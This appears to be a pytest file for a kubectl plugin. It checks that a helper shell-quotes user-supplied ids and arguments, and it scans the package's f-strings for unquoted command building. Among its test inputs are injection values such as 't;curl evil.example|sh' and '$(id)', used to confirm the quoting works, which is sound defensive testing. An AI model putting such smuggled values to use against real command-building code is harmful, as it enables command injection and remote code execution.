"""Commands in hints: what somebody else named is one word of them, whatever is in it."""

from __future__ import annotations

import ast
import re
import shlex
from pathlib import Path

import kubectl_kagent
from kubectl_kagent.shell import command_line

_CODE = Path(kubectl_kagent.__file__).parent
# what people and agents name as they like; objects of Kubernetes have names that the API server has checked
_ANYBODYS = re.compile(r"\b(task|session|user|id_|word|folder)\b")


def test_words_are_quoted_where_a_shell_would_take_them_for_more() -> None:
    plain = ("7a5c0001", "--user-id=ann@example.com", "-n", "team")
    assert command_line("kubectl kagent chat", *plain) == f"kubectl kagent chat {' '.join(plain)}"
    evil = ("t;curl evil.example|sh", "$(id)", "O'Brien", "a\nb", "")
    assert shlex.split(command_line("kubectl kagent chat", *evil)) == ["kubectl", "kagent", "chat", *evil]


def test_an_id_that_looks_like_an_option_is_none() -> None:
    begin = "kubectl kagent approvals approve"
    assert command_line(begin, "--answer=TEXT", of="7a5c0001") == f"{begin} 7a5c0001 --answer=TEXT"
    assert command_line(begin, "--answer=TEXT", of="--yes") == f"{begin} --answer=TEXT -- --yes"


def test_an_id_that_begins_as_a_kind_does_keeps_its_beginning() -> None:
    begin = "kubectl kagent approvals approve"
    assert command_line(begin, of="task/7a5c0001", kind="task") == f"{begin} task/task/7a5c0001"
    assert command_line(begin, of="7a5c0001", kind="task") == f"{begin} 7a5c0001"


def test_no_command_is_written_around_an_id() -> None:
    for path in sorted(_CODE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.JoinedStr):
                continue
            text = "".join(str(part.value) for part in node.values if isinstance(part, ast.Constant))
            named = [ast.unparse(part.value) for part in node.values if isinstance(part, ast.FormattedValue)]
            if re.search(r"\bkubectl (kagent )?[a-z]|\bkustomize build", text):
                bare = [name for name in named if "command_line(" not in name and _ANYBODYS.search(name)]
                assert not bare, f"{path}:{node.lineno}: {bare} into command_line"
